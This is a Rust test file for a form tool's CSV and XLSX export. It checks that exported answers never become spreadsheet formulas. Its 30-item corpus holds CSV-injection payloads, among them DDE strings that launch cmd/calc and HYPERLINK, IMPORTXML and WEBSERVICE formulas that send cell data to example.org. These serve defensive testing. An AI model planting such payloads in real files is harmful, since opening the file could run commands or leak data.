//! No answer becomes a formula, whatever stands in it. The threat: "CSV/formula injection".

use calamine::{Data, Reader, Xlsx, open_workbook};
use forms_fn::export::csv::Separator;
use forms_fn::export::{Table, csv as csv_export, guard};

use super::office::{office, words};

/// From OWASP's page on CSV injection, and from the tests of three other form processors.
const CORPUS: [&str; 30] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "   +1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}@SUM(1)",
    "\u{202e}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.org\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+4512345678",
    "-2+3+cmd|' /C calc'!D2",
    "x;=1+1",
    "x\n=1+1",
    "x\"\n\",=1+1",
    "DDE(\"cmd\";\"/C calc\";\"x\")\t=1",
];

/// What a spreadsheet program does with a cell: skips what isn't seen, then looks at the first character.
fn is_formula(cell: &str) -> bool {
    let blank = |c: char| {
        c.is_whitespace() || c.is_control() || ('\u{200b}'..='\u{202e}').contains(&c) || c == '\u{feff}'
    };
    cell.trim_start_matches(blank).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

fn table() -> Table {
    let row = |text: &&str| vec!["1".to_owned(), (*text).to_owned()];
    Table { header: vec!["number".to_owned(), "=answer".to_owned()], rows: CORPUS.iter().map(row).collect() }
}

#[test]
fn a_csv_file_holds_no_formulas_and_reads_back_as_it_was() {
    for (separator, between) in [(Separator::Semicolon, b';'), (Separator::Comma, b',')] {
        let bytes = csv_export::write(&table(), separator);
        assert!(bytes.starts_with("\u{feff}".as_bytes()), "spreadsheet programs need the mark");
        let mut reader = csv::ReaderBuilder::new();
        let mut reader = reader.delimiter(between).has_headers(false).from_reader(bytes.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), CORPUS.len() + 1);
        for (row, text) in rows[1..].iter().zip(CORPUS) {
            assert!(!is_formula(&row[1]), "{:?}", &row[1]);
            let unguarded = row[1].replace('\'', "");
            assert_eq!(unguarded, guard::in_order(text).replace('\'', ""), "nothing but the quote was added");
        }
        assert_eq!(&rows[0][1], "'=answer");
    }
}

/// Some programs part cells at semicolons, tabs and line breaks and know no quotes in the middle of a cell.
#[test]
fn a_program_that_parts_cells_otherwise_finds_no_formulas_either() {
    for separator in [Separator::Semicolon, Separator::Comma] {
        let text = words(&csv_export::write(&table(), separator));
        for cell in text.split([';', '\t', '\r', '\n']) {
            // Our own commas and quotes are no beginnings: a comma-reading program was tried above.
            assert!(!is_formula(cell), "{cell:?}");
        }
    }
}

#[test]
fn lines_end_as_rfc_4180_wants_it() {
    let table =
        Table { header: vec!["a".to_owned()], rows: vec![vec!["one\ntwo \"three\", four".to_owned()]] };
    let commas = csv_export::write(&table, Separator::Comma);
    assert_eq!(commas, "\u{feff}a\r\n\"one\ntwo \"\"three\"\", four\"\r\n".as_bytes());
}

#[tokio::test]
async fn a_workbook_is_all_text_and_tells_where_it_comes_from() {
    let office = office();
    for (number, text) in ["=1+1", "@SUM(1+1)", "+1", "Øystein"].into_iter().enumerate() {
        office.register(&[("full_name", text), ("phone", &format!("+45 12 34 56 7{number}"))]).await;
    }
    let out = office.path().join("guests.xlsx");
    let args = ["export", "--event", "ten", "--format", "xlsx", "--out", out.to_str().unwrap()];
    assert_eq!(office.ask(&args), "");
    let mut book: Xlsx<_> = open_workbook(&out).unwrap();
    let range = book.worksheet_range("Records").unwrap();
    assert_eq!(range.height(), 5);
    assert!(range.cells().all(|(_, _, cell)| matches!(cell, Data::String(_) | Data::Empty)), "{range:?}");
    let formulas = book.worksheet_formula("Records").unwrap();
    assert!(formulas.cells().all(|(_, _, formula)| formula.is_empty()));
    let all: Vec<String> = range.cells().map(|(_, _, cell)| cell.to_string()).collect();
    assert!(all.contains(&"=1+1".to_owned()) && all.contains(&"+45 12 34 56 70".to_owned()), "{all:?}");
    let about = book.worksheet_range("About").unwrap();
    let about: Vec<String> = about.cells().map(|(_, _, cell)| cell.to_string()).collect();
    assert!(about.contains(&"order the food".to_owned()) && about.contains(&"karin".to_owned()), "{about:?}");
}

#[tokio::test]
async fn a_file_is_only_for_whoever_made_it_and_never_half_written() {
    let office = office();
    office.register(&[("full_name", "Amina"), ("phone", "+4512345678")]).await;
    let out = office.path().join("guests.csv");
    std::fs::write(&out, "what stood here before").unwrap();
    let args = ["export", "--event", "ten", "--format", "csv", "--out", out.to_str().unwrap()];
    office.ask(&args);
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(text.contains("Amina") && text.contains("'+4512345678"), "{text}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600);
    }
    let nowhere = office.path().join("missing/guests.csv");
    let args =
        ["export", "--event", "ten", "--format", "csv", "--purpose", "x", "--out", nowhere.to_str().unwrap()];
    assert!(office.refuse(&args).contains("cannot write"));
    let left = std::fs::read_dir(office.path()).unwrap().count();
    assert_eq!(left, 3, "data, forms and the export; no draft");
    let args = ["export", "--event", "ten", "--format", "xlsx", "--purpose", "x"];
    assert!(office.refuse(&args).contains("--out"));
}
